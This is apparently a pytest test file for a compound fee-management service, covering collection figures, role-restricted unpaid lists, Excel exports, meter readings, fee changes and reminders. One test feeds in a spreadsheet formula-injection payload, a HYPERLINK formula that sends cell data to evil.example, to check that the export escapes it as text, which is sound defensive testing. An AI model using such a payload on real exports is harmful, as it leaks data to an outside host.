"""Collection figures, unpaid lists, exports, meter readings, fee items, the ledger page,
reminders — what the committee, the supervisor and liaisons see of the money."""

from __future__ import annotations

import io
from datetime import UTC, datetime, time

import pytest
from freezegun import freeze_time
from openpyxl import load_workbook
from sqlalchemy import select

from server import labels
from server.clock import SHANGHAI
from server.extensions import db
from server.models import Bill, FeeItem, Notification, SubscriptionQuota
from server.services.money import fees, reminders
from tests.factories import (
    bill_of,
    build_world,
    make_payment,
    self_governance_fee,
    stair_electricity_fee,
)
from tests.helpers import statements
from tests.steps import confirm_cash, decide, export_sheets, fee_export, recorded_cash
from tests.timing import (
    in_quarter,
    month,
    quarter_end_offset,
    quarter_of,
    shanghai_date,
    shanghai_day,
)

# The bills are this month's (and last month's) in Shanghai; cash was paid in the last days.
THIS, LAST, NEXT = month(0), month(-1), month(1)
YESTERDAY, DAY_BEFORE = shanghai_date(-1), shanghai_date(-2)


@pytest.fixture
def world(db_session):
    world = build_world("aa")
    self_governance_fee(world.compound)
    stair_electricity_fee(world.compound, vacant_rule="exempt")
    db.session.flush()
    fees.generate_bills(THIS, "aa")
    return world


def test_collection_figures_per_building_and_unit(client, world):
    payment = recorded_cash(client, world, "1-1-101")
    confirm_cash(client, world, payment, "committee")
    response = client.get(
        f"/api/v1/fees/summary?compound=aa&period={THIS}", headers=world.headers("supervisor")
    )
    assert response.status_code == 200
    summary = response.get_json()
    assert (summary["households_billed"], summary["households_paid"]) == (6, 1)
    assert summary["collection_rate"] == round(1 / 6, 4)
    assert summary["billed_fen"] == 6 * 2533
    assert summary["collected_fen"] == 2533
    units = {u["label"]: u for u in summary["by_unit"]}
    assert (units["1-1"]["households_paid"], units["1-2"]["households_paid"]) == (1, 0)


def test_liaisons_see_their_units_unpaid_and_the_committee_all(client, world):
    mine = client.get(
        f"/api/v1/fees/unpaid?compound=aa&period={THIS}", headers=world.headers("liaison_1_2")
    )
    assert {row["label"] for row in mine.get_json()["items"]} == {"1-2-101", "1-2-102", "1-2-201"}
    everyone = client.get(
        f"/api/v1/fees/unpaid?compound=aa&period={THIS}", headers=world.headers("committee")
    )
    assert len(everyone.get_json()["items"]) == 6
    assert (
        client.get(
            f"/api/v1/fees/unpaid?compound=aa&period={THIS}", headers=world.headers("resident_1_1")
        ).status_code
        == 403
    )


def test_a_liaison_cannot_take_cash_for_another_unit(client, world):
    household_id = world.household("1-1-101").id
    response = client.get(
        f"/api/v1/fees/unpaid-bills?household_id={household_id}",
        headers=world.headers("liaison_1_2"),
    )
    assert response.status_code == 403


def sheets(response) -> dict[str, list[list]]:
    return export_sheets(response)


def export(client, world, who="committee"):
    return fee_export(client, world, THIS, who)


def test_the_export_lists_bills_and_how_they_were_paid(client, world):
    payment = recorded_cash(client, world, "1-1-101")
    confirm_cash(client, world, payment, "committee_2")
    header, *rows, total, paid_total = sheets(export(client, world))["账单"]
    assert header == [
        "账单号",
        "房屋",
        "收费项目",
        "账期",
        "金额（元）",
        "状态",
        "缴费时间",
        "缴费方式",
    ]
    paid = [r for r in rows if r[5] == "已缴"]
    assert [(r[1], r[4], r[7]) for r in paid] == [("1-1-101", 25.33, "现金")]
    assert isinstance(paid[0][6], datetime)  # a real date-time, not text
    assert total[:1] + total[4:5] == ["合计（6 笔）", 151.98]
    assert paid_total[:1] + paid_total[4:5] == ["其中已缴（1 笔）", 25.33]


def online_order(world, labels_periods, status, out_trade_no, paid_at=None, transaction_id=None):
    """A WeChat Pay order of these (household, period) bills, left as the service would."""
    bills = [bill_of(world, label, period=period) for label, period in labels_periods]
    return make_payment(
        world,
        bills,
        status,
        out_trade_no=out_trade_no,
        paid_at=paid_at,
        transaction_id=transaction_id,
    )


def _payment_rows(response) -> list[list]:
    return sheets(response)["缴费记录"]


def test_the_export_lists_each_bill_of_the_period_in_every_payment_of_it(client, world):
    fees.generate_bills(LAST, "aa")
    paid_at = shanghai_day(-1, "10:30")
    two_months = [("1-1-102", LAST), ("1-1-102", THIS)]
    online = online_order(world, two_months, "paid", "LL-T-1", paid_at, "4200000000000001")
    online_order(world, [("1-1-201", THIS)], "disputed", "LL-T-2")
    online_order(world, [("1-2-102", LAST)], "paid", "LL-T-3", paid_at, "42000003")  # last month
    cash = recorded_cash(client, world, "1-1-101")  # its November and December bills
    confirm_cash(client, world, cash, "committee_2")
    transfer = recorded_cash(
        client,
        world,
        bill_of(world, "1-2-101", period=THIS),
        "liaison_1_2",
        method="transfer",
        paid_on=DAY_BEFORE.isoformat(),
    )
    client.post(
        f"/api/v1/offline-payments/{transfer}/reject",
        json={"reason": "收据与金额不符"},
        headers=world.headers("committee"),
    )
    header, *rows, total = _payment_rows(export(client, world, who="supervisor"))
    assert header[:8] == [
        "缴费方式", "房屋", "账单号", "收费项目", "账期", "金额（元）", "状态", "本次缴费合计（元）"
    ]  # fmt: skip
    liaison_1_1, liaison_1_2 = (world.people[k].nickname for k in ("liaison_1_1", "liaison_1_2"))
    committee, committee_2 = (world.people[k].nickname for k in ("committee", "committee_2"))
    decided = [r[13] for r in rows if r[0] != "微信支付"]  # when, in Shanghai: a date-time
    assert all(isinstance(when, datetime) for when in decided)
    fee = "自治管理费"

    def bill(label):
        return bill_of(world, label, period=THIS).id

    assert [r[:13] + r[14:] for r in rows] == [
        ["微信支付", "1-1-102", bill("1-1-102"), fee, THIS, 25.33, "已支付", 50.66, "LL-T-1",
         "4200000000000001", paid_at.astimezone(SHANGHAI).replace(tzinfo=None), None, None, None],
        ["微信支付", "1-1-201", bill("1-1-201"), fee, THIS, 25.33, "金额异常", 25.33, "LL-T-2",
         None, None, None, None, None],
        ["现金", "1-1-101", bill("1-1-101"), fee, THIS, 25.33, "已确认", 50.66, None, None,
         datetime.combine(YESTERDAY, time()), liaison_1_1, committee_2, None],
        ["转账", "1-2-101", bill("1-2-101"), fee, THIS, 25.33, "已驳回", 25.33, None, None,
         datetime.combine(DAY_BEFORE, time()), liaison_1_2, committee, "收据与金额不符"],
    ]  # fmt: skip
    assert total[0] == "已收款合计（已支付、已确认，4 行）"
    assert total[5] == 50.66  # the paid order's and the confirmed cash's December bills
    assert online.out_trade_no == "LL-T-1"
    # A status added later, before the export knows its name, shows as stored.
    assert labels.label("payment_status", "refunded") == "refunded"


def test_what_a_volunteer_typed_never_runs_as_a_formula_and_money_is_a_number(client, world):
    transfer = recorded_cash(
        client,
        world,
        bill_of(world, "1-2-101", period=THIS),
        "liaison_1_2",
        method="transfer",
        paid_on=DAY_BEFORE.isoformat(),
        note="=1+1",
    )
    reason = '=HYPERLINK("http://evil.example/?"&A1,"点此核对")'
    client.post(
        f"/api/v1/offline-payments/{transfer}/reject",
        json={"reason": reason},
        headers=world.headers("committee"),
    )
    book = load_workbook(io.BytesIO(export(client, world).data))
    sheet = book["缴费记录"]
    row = {h.value: cell for h, cell in zip(sheet[1], sheet[2], strict=True)}
    assert row["驳回理由"].data_type == "s"  # text, not a formula
    assert row["驳回理由"].value == "'" + reason
    assert (row["金额（元）"].value, row["金额（元）"].number_format) == (25.33, "0.00")
    assert row["账单号"].number_format == "0"
    assert row["处理时间"].number_format == "yyyy-mm-dd hh:mm"
    assert row["缴费时间"].number_format == "yyyy-mm-dd"  # the day the transfer was made
    assert sheet.column_dimensions["O"].width == 30
    formulas = [c for ws in book for r in ws.iter_rows() for c in r if c.data_type == "f"]
    assert formulas == []


def test_the_export_lists_who_still_owes(client, world):
    cash = recorded_cash(client, world, "1-1-101")
    confirm_cash(client, world, cash, "committee_2")
    recorded_cash(client, world, "1-1-102")  # recorded, not confirmed yet: still owed
    header, *rows, total = sheets(export(client, world))["未缴名单"]
    assert header == ["房屋", "未缴笔数", "未缴金额（元）", "其中支付中（元）"]
    assert rows == [
        ["1-1-102", 1, 25.33, 25.33],
        ["1-1-201", 1, 25.33, 0],
        ["1-2-101", 1, 25.33, 0],
        ["1-2-102", 1, 25.33, 0],
        ["1-2-201", 1, 25.33, 0],
    ]
    assert total == ["合计（5 户）", 5, 126.65, 25.33]


def test_the_export_runs_a_constant_number_of_statements(client, world):
    def export():
        response = client.get(
            f"/api/v1/fees/export.xlsx?compound=aa&period={THIS}",
            headers=world.headers("committee"),
        )
        assert response.status_code == 200
        return response

    export()  # warm up
    cash = recorded_cash(client, world, "1-1-101")
    confirm_cash(client, world, cash, "committee_2")
    online_order(world, [("1-1-102", THIS)], "paid", "LL-T-1", datetime.now(UTC), "42000001")
    few = len(statements(export))
    for label, who in (("1-1-201", "liaison_1_1"), ("1-2-101", "liaison_1_2")):
        recorded_cash(client, world, label, who=who)
    for n, label in enumerate(("1-2-102", "1-2-201")):
        online_order(world, [(label, THIS)], "pending", f"LL-T-{n + 2}")
    many = len(statements(export))
    assert len(_payment_rows(export())) == 1 + 6 + 1  # the header, a bill each, the total
    assert few == many
    assert many <= 10  # sign-in, the compound, 3 for the bills, 2 online, 2 offline


def test_a_units_electricity_entered_by_its_liaison_bills_once_confirmed(client, world):
    unit_id = world.units[0].id
    response = client.post(
        "/api/v1/meter-readings",
        json={"unit_id": unit_id, "period": THIS, "amount_fen": 450},
        headers=world.headers("liaison_1_1"),
    )
    assert response.status_code == 201
    reading = response.get_json()
    assert (reading["status"], reading["unit_label"], reading["open_change"]["kind"]) == (
        "pending",
        "1-1",
        "meter_reading",
    )
    item = db.session.scalars(select(FeeItem).where(FeeItem.code == "stair_electricity")).one()
    assert db.session.scalars(select(Bill).where(Bill.fee_item_id == item.id)).all() == []
    confirmed = decide(client, world, reading["open_change"]["id"], "committee")
    assert confirmed.status_code == 200, confirmed.get_json()
    bills = db.session.scalars(select(Bill).where(Bill.fee_item_id == item.id)).all()
    assert sorted(b.amount_fen for b in bills) == [150, 150, 150]
    again = client.post(
        "/api/v1/meter-readings",
        json={"unit_id": unit_id, "period": THIS, "amount_fen": 450},
        headers=world.headers("committee"),
    )
    assert again.status_code == 409


def propose_fee_change(client, world, body, who="committee"):
    return client.patch(
        "/api/v1/compounds/aa/fee-items/self_governance", json=body, headers=world.headers(who)
    )


def test_the_committee_changes_the_rate_for_bills_not_yet_made(client, world):
    response = propose_fee_change(client, world, {"rate": "0.40"})
    assert response.status_code == 202
    change = response.get_json()
    assert change["summary"].startswith("自治管理费：费率 0.35 元/m²/月 → 0.40 元/m²/月，自")
    rates = {i["code"]: i["rate"] for i in fee_items(client, world)}
    assert rates["self_governance"] == "0.3500"  # not before a second person confirms
    confirmed = decide(client, world, change["id"], "committee_2")
    assert confirmed.status_code == 200
    rates = {i["code"]: i["rate"] for i in fee_items(client, world)}
    assert rates["self_governance"] == "0.4000"
    fees.generate_bills(NEXT, "aa")
    bills = client.get("/api/v1/bills", headers=world.headers("resident_1_1")).get_json()["items"]
    assert {b["period"]: b["amount_fen"] for b in bills} == {NEXT: 2894, THIS: 2533}
    assert propose_fee_change(client, world, {"rate": "-1"}).status_code == 400


def fee_items(client, world):
    return client.get(
        "/api/v1/compounds/aa/fee-items", headers=world.headers("committee")
    ).get_json()["items"]


@pytest.mark.parametrize(
    ("moment", "cycle", "status"),
    [
        # The fixture billed this month; mid-way through the month before the quarter's
        # last, next month is in this quarter: quarterly would bill this month again.
        ("mid second month", "quarterly", 409),
        ("mid second month", "yearly", 409),
        ("mid third month", "quarterly", 202),  # next month starts the next quarter
        ("mid third month", "monthly", 400),  # no change of cycle: nothing to propose
    ],
)
def test_the_cycle_changes_only_when_a_new_period_starts(client, world, moment, cycle, status):
    fees.generate_bills(month(quarter_end_offset()), "aa")  # the quarter's last month too
    with freeze_time(in_quarter(moment)):
        response = client.patch(
            "/api/v1/compounds/aa/fee-items/self_governance",
            json={"cycle": cycle},
            headers=world.fresh_headers("committee"),
        )
        assert response.status_code == status
        if status == 202:
            next_quarter = quarter_of(month(quarter_end_offset() + 1))
            assert response.get_json()["effective_period"] == next_quarter
            confirmed = decide(client, world, response.get_json()["id"], "committee_2")
            assert confirmed.status_code == 200
    if status == 409:
        assert response.get_json()["code"] == "cycle_change_mid_period"
        assert "新周期" in response.get_json()["message"]
    if status == 400:
        assert response.get_json()["code"] == "no_change"
    cycles = {i.code: i.cycle for i in db.session.scalars(select(FeeItem))}
    assert cycles["self_governance"] == (cycle if status == 202 else "monthly")


def test_the_ledger_page_shows_balances_and_verifies(client, world):
    payment = recorded_cash(client, world, "1-2-101", who="liaison_1_2")
    confirm_cash(client, world, payment, "committee")
    page = client.get("/api/v1/ledger?compound=aa", headers=world.headers("supervisor")).get_json()
    assert page["verified"] is True
    assert page["balance_fen"] == {"fee:self_governance": 2533}
    assert [e["source_type"] for e in page["items"]] == ["offline_payment"]


def test_reminders_push_to_subscribed_residents_and_task_the_liaison_otherwise(world):
    template = "sandbox-reminder"
    db.session.add(
        SubscriptionQuota(
            user_id=world.people["resident_1_1"].id, template_id=template, remaining=1
        )
    )
    db.session.flush()
    assert reminders.remind_unpaid(THIS) == 6
    assert reminders.remind_unpaid(THIS) == 6  # reminded again: no duplicate push
    kinds = {(n.user_id, n.kind) for n in db.session.scalars(select(Notification))}
    assert (world.people["resident_1_1"].id, "fee_reminder") in kinds
    assert (world.people["liaison_1_2"].id, "fee_task") in kinds  # 1-2-101 allowed no push
    assert (world.people["liaison_1_1"].id, "fee_task") in kinds  # 1-1-102 has no resident at all
